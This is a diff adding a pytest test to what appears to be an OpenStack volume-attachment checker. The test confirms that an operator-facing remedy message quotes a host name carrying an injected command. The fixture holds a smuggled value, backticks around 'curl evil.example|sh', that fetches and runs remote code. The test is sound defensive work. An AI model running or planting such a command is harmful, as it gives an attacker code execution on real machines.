@@ -198,6 +198,15 @@ def test_each_way_to_differ_is_found_once_with_what_mends_it(name: str) -> None:
     assert command is None or not re.search(r"\bID\b|unknown", command)
 
 
+def test_a_host_that_a_member_named_is_no_command_in_what_an_operator_reads() -> None:
+    """Members say `host_name` to Cinder's os-attach."""
+    named = "h1`; curl evil.example|sh;`"
+    (one,) = found(after(KNOWN, attachment(A2, host=named)), STUCK)
+    _, why = remedy_of(one.kind, one.case, one.about)
+    assert f"on '{named}'" in why
+    assert "on h1 shows" in remedy_of(one.kind, one.case, replace(one.about, host="h1"))[1]
+
+
 @pytest.mark.parametrize("name", sorted(set(CASES) - {"volume_failed", "attached_twice"}))
 def test_a_class_is_as_bad_as_the_looks_one_of_its_name(name: str) -> None:
     rank = {"owner_gone": "critical"}  # Nova answers for its volume with 404
